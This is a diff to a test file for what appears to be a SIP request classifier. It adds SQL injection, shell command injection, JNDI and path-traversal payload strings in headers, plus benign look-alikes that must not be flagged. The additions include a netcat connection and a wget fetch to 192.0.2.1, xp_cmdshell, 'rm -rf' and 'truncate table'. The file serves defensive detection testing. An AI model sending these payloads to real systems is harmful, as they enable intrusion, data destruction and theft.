@@ -23,6 +23,18 @@ group('SQL injection', () => {
     { 'User-Agent': "a' and (select 1)=1" },
     { Contact: "<sip:x'||(select pg_sleep(5))||'@b>" },
     { 'User-Agent': "a'\r\n or 1=1" },
+    { 'User-Agent': "x') or name like '%" },
+    { 'User-Agent': "x' and pin is not null" },
+    { 'User-Agent': "x' or id<5" },
+    { 'User-Agent': 'x union select user, secret from sip' },
+    { 'User-Agent': "1;update sip set secret='a'" },
+    { 'User-Agent': "1; exec xp_cmdshell 'dir'" },
+    { 'User-Agent': "1'; shutdown --" },
+    { 'User-Agent': "admin' -- -" },
+    { 'User-Agent': '1;truncate table cdr' },
+    { 'User-Agent': 'x || extractvalue(1,2)' },
+    { 'User-Agent': '1 || pg_sleep(9)' },
+    { 'User-Agent': 'benchmark (5000000, md5(1))' },
   ])('is found in %j', (headers) => expect(withHeaders(headers).class).toBe('sql-injection'))
 
   it.each([
@@ -32,6 +44,14 @@ group('SQL injection', () => {
     { Authorization: 'Digest username="or", realm="and=x", nonce="or/=a==", uri="sip:x", response="y"' },
     { From: '"Drop Table Catering" <sip:a;b=1@b>;tag=1' },
     { To: '<sip:*21*0123%23@h>' },
+    { From: '"Smith (Holdings) and Sons" <sip:a@b>;tag=1' },
+    { From: '"The \\"A\\" and B" <sip:a@b>;tag=1' },
+    { From: '"\'Best\' or nothing is fine" <sip:a@b>;tag=1' },
+    { From: '"Bob\' #3" <sip:a@b>;tag=1' },
+    { Subject: "The Jones' -- a family" },
+    { Subject: 'Dinner (pasta) or something like it; delete from your list' },
+    { Subject: 'tasks; update my set of phones; exec meeting; shutdown on Friday' },
+    { Subject: 'Union Select Ltd, Berlin: benchmark (2) results, sleep (8 hours)' },
     { From: '"Smith and Sons" <sip:order-by@b>;tag=or=1' },
   ])('is not found in %j', (headers) => expect(withHeaders(headers).class).not.toMatch(/injection/))
 })
@@ -42,6 +62,12 @@ group('other injections', () => {
     '<img src=x onerror=alert(1)>',
     '$(wget http://192.0.2.1/x)',
     'a; wget 192.0.2.1/x',
+    'a;id',
+    'a | sh',
+    'a && cat /etc/hosts',
+    'a;rm -rf x',
+    'a|python -c x',
+    'a;nc 192.0.2.1 99',
     '../../../../etc/passwd',
     '${jndi:ldap://192.0.2.1/a}',
     '%25s%25s%25s%25n',
@@ -52,7 +78,13 @@ group('other injections', () => {
     'Linksys/SPA942-6.1.5(a)',
     'PortSIP UC Client  Android - v10.1.8',
     'A & B; (c) | d',
+    'Dog & Cat Clinic',
+    'Java | Python meeting',
+    'R&D; sh office',
   ])('not in %s', (value) => expect(withHeaders({ 'User-Agent': value }).class).not.toMatch(/injection/))
+
+  it('not in the list of what a phone wants kept private', () =>
+    expect(withHeaders({ Privacy: 'user;id' }).class).toBe('extension-enumeration'))
 })
 
 group('the class of a request', () => {
@@ -72,6 +104,9 @@ group('the class of a request', () => {
     ['signalling', 'BYE sip:101@h SIP/2.0', {}],
     ['signalling', 'INFO sip:101@h SIP/2.0', { To: '<sip:a@b>;tag=ours' }],
     ['research-scan', 'OPTIONS sip:101@h SIP/2.0', { 'User-Agent': 'censys.io research' }],
+    ['extension-enumeration', 'REGISTER sip:h SIP/2.0', { 'User-Agent': 'research' }],
+    ['password-guessing', 'REGISTER sip:h SIP/2.0', { 'User-Agent': 'research', ...digest }],
+    ['toll-fraud', 'INVITE sip:900046850780296@h SIP/2.0', { 'User-Agent': 'Shodan' }],
     ['malformed', 'OPTIONS sip:101@h SIP/2.0', { From: '' }],
     ['malformed', 'OPTIONS sip:101@h SIP/2.0', { 'Content-Length': 'ten' }],
     ['malformed', 'OPTIONS sip:101@h SIP/9.0', {}],
